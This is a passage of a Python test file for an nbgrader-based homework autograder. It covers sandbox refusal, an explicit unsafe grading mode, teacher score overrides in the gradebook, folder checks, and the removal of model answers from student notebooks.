        page = browser.new_page()
        page.route("**/*", lambda route: route.abort())  # nothing leaves the page
        try:
            page.set_content(content, wait_until="domcontentloaded")
            if page.query_selector("b"):
                page.hover("b")
            page.wait_for_timeout(300)
            assert page.evaluate("window.pwned !== undefined") is want, content[:200]
        finally:
            page.close()


def test_autograde_refuses_without_a_sandbox(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv(homework.BWRAP_ENV, str(tmp_path / "no-bwrap"))
    (tmp_path / "subs" / "alice").mkdir(parents=True)
    with pytest.raises(SandboxUnavailable, match=r"bubblewrap \(bwrap\) was not found.*UNSAFE=1"):
        autograde(tmp_path / "subs", tmp_path / "grades.csv", notebooks=TINY, build=tmp_path / "build")
    assert not (tmp_path / "grades.csv").exists()
    assert homework.main(["autograde", str(tmp_path / "subs"), "--out", str(tmp_path / "grades.csv")]) == 2
    err = capsys.readouterr().err
    assert "refusing to run student code without a sandbox" in err
    assert (homework.ROOT_NOTE in err) == (os.geteuid() == 0)  # as root it says so, and what it does about it


@pytest.mark.slow
def test_unsafe_grades_without_a_sandbox(tmp_path, monkeypatch):
    monkeypatch.setenv(homework.BWRAP_ENV, str(tmp_path / "no-bwrap"))
    build = tmp_path / "build"
    make_student(build / "student", notebooks=TINY, build=build)
    stub = nbformat.read(build / "student" / f"{NB}.ipynb", as_version=4)
    solved = copy.deepcopy(stub)
    teacher = nbformat.read(TINY / f"{NB}.ipynb", as_version=4)
    for gid in ("ex1_solution", "ex2_solution"):
        _by_id(solved, gid).source = _by_id(teacher, gid).source
    for name, nb in {"alice": solved, "bob": stub}.items():
        (tmp_path / "subs" / name).mkdir(parents=True)
        nbformat.write(nb, tmp_path / "subs" / name / f"{NB}.ipynb")
    rows = autograde(tmp_path / "subs", tmp_path / "grades.csv", notebooks=TINY, build=build, timeout=10, unsafe=True)
    assert [(r.student, r.exercise, r.points) for r in rows] == [
        ("alice", "ex1_test", 1), ("alice", "ex2_test", 1), ("bob", "ex1_test", 0), ("bob", "ex2_test", 0)]


@pytest.mark.slow
def test_a_teachers_manual_score_counts(tmp_path, sandbox):
    """A score entered in nbgrader's formgrader (here: through its API) replaces the auto score
    on the next run, and the reason says so; nothing else in the gradebook sets a score."""
    from nbgrader.api import Gradebook

    build = tmp_path / "build"
    make_student(build / "student", notebooks=TINY, build=build)
    (tmp_path / "subs" / "bob").mkdir(parents=True)
    shutil.copy(build / "student" / f"{NB}.ipynb", tmp_path / "subs" / "bob")
    first = autograde(tmp_path / "subs", tmp_path / "grades.csv", notebooks=TINY, build=build, timeout=10)
    assert [r.points for r in first] == [0, 0]
    with Gradebook(f"sqlite:///{build / 'nbgrader' / 'gradebook.db'}") as gb:
        grade = gb.find_grade("ex1_test", NB, NB, "bob")
        assert (grade.auto_score, grade.manual_score) == (0, None)
        grade.manual_score = 0.5
        gb.db.commit()
    again = autograde(tmp_path / "subs", tmp_path / "grades.csv", notebooks=TINY, build=build, timeout=10)
    assert [(r.exercise, r.points, r.reason) for r in again] == [
        ("ex1_test", 0.5, "score entered by a teacher in nbgrader (the autograder gave 0: "
                          "not answered: the solution cell still raises NotImplementedError)"),
        ("ex2_test", 0, "not answered: the solution still raises NotImplementedError")]
    with Gradebook(f"sqlite:///{build / 'nbgrader' / 'gradebook.db'}") as gb:  # kept for the next run
        assert gb.find_grade("ex1_test", NB, NB, "bob").manual_score == 0.5
    # `make student` rebuilds the course folder, gradebook included; a run that grades only carol
    # follows: bob's score is kept all the same, and counts when bob is graded again
    make_student(build / "student", notebooks=TINY, build=build)
    assert homework.kept_teacher_scores(build) == {("bob", NB, "ex1_test"): 0.5}
    (tmp_path / "only_carol" / "carol").mkdir(parents=True)
    shutil.copy(build / "student" / f"{NB}.ipynb", tmp_path / "only_carol" / "carol")
    autograde(tmp_path / "only_carol", tmp_path / "grades.csv", notebooks=TINY, build=build, timeout=10)
    later = autograde(tmp_path / "subs", tmp_path / "grades.csv", notebooks=TINY, build=build, timeout=10)
    assert [r.points for r in later] == [0.5, 0]


def test_autograde_rejects_a_bad_folder(tmp_path):
    with pytest.raises(ValueError, match="jobs >= 1"):
        autograde(tmp_path, jobs=0)
    with pytest.raises(NotADirectoryError, match="SUBMISSIONS/<student>"):
        autograde(tmp_path / "missing")
    with pytest.raises(FileNotFoundError, match="no student sub-folders"):
        autograde(tmp_path)


@pytest.mark.slow
def test_a_written_answer_is_stripped_for_students_and_waits_for_a_teacher(tmp_path, monkeypatch):
    """A markdown answer graded by hand (nbgrader's "manually graded answer"): the student edition
    keeps the question and loses the model answer, the autograder gives it no points and marks
    it needs_manual_grade, and the teacher's score from formgrader then counts."""
    from nbgrader.api import Gradebook

    monkeypatch.setenv(homework.BWRAP_ENV, str(tmp_path / "no-bwrap"))
    teacher_dir = tmp_path / "teacher"
    teacher_dir.mkdir()
    nb = nbformat.read(TINY / f"{NB}.ipynb", as_version=4)
    written = nbformat.v4.new_markdown_cell(f"{BEGIN}\nThe counts agree because THE-MODEL-ANSWER.\n{END}")
    written.metadata["nbgrader"] = {"grade": True, "grade_id": "ex3_written", "locked": False, "points": 2,
                                    "schema_version": 3, "solution": True, "task": False}
    nb.cells.append(written)
    nbformat.write(nb, teacher_dir / f"{NB}.ipynb")
    build = tmp_path / "build"
    make_student(build / "student", notebooks=teacher_dir, build=build)
    stub = nbformat.read(build / "student" / f"{NB}.ipynb", as_version=4)
    assert "THE-MODEL-ANSWER" not in json.dumps(stub), "the model answer reached the student edition"
    answer = _by_id(stub, "ex3_written")
    assert answer.cell_type == "markdown" and "YOUR ANSWER HERE" in answer.source
    answer.source = "Because the chain rule holds in any order."
    (tmp_path / "subs" / "bob").mkdir(parents=True)
    nbformat.write(stub, tmp_path / "subs" / "bob" / f"{NB}.ipynb")
    rows = autograde(tmp_path / "subs", tmp_path / "grades.csv", notebooks=teacher_dir, build=build,
                     timeout=10, unsafe=True)
    row = next(r for r in rows if r.exercise == "ex3_written")
    assert (row.points, row.max_points, row.status.name) == (0, 2, "NEEDS_MANUAL_GRADE")
    assert "needs_manual_grade" in (tmp_path / "grades.csv").read_text()
    with Gradebook(f"sqlite:///{build / 'nbgrader' / 'gradebook.db'}") as gb:
        grade = gb.find_grade("ex3_written", NB, NB, "bob")
        assert grade.needs_manual_grade and grade.auto_score is None
        grade.manual_score = 1.5
        gb.db.commit()
    again = autograde(tmp_path / "subs", tmp_path / "grades.csv", notebooks=teacher_dir, build=build,
                      timeout=10, unsafe=True)
    assert next(r for r in again if r.exercise == "ex3_written").points == 1.5
